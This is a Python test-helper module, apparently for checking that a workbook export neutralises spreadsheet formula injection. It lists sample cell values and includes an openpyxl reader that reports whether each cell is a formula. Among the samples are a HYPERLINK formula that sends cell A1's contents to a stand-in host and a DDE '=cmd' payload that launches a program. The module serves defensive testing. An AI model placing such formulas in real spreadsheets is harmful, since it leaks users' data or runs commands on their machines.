"""Text that a spreadsheet would run as a formula if it were written carelessly, and a reader
of the cells a written workbook holds (value and whether it is a formula)."""

from __future__ import annotations

from pathlib import Path

HOSTILE = (
    '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez ici")',
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "Nom  à  espaces\u00a0multiples",
    "ligne 1\nligne 2",
    "  commence par des espaces",
)


def cells(path: Path) -> dict[tuple[str, int, int], tuple[object, bool]]:
    """(sheet, row, column) → (value, is a formula), 0-based, for every non-empty cell."""
    import openpyxl

    found: dict[tuple[str, int, int], tuple[object, bool]] = {}
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    key = (sheet.title, cell.row - 1, cell.column - 1)
                    found[key] = (cell.value, cell.data_type == "f")
    return found
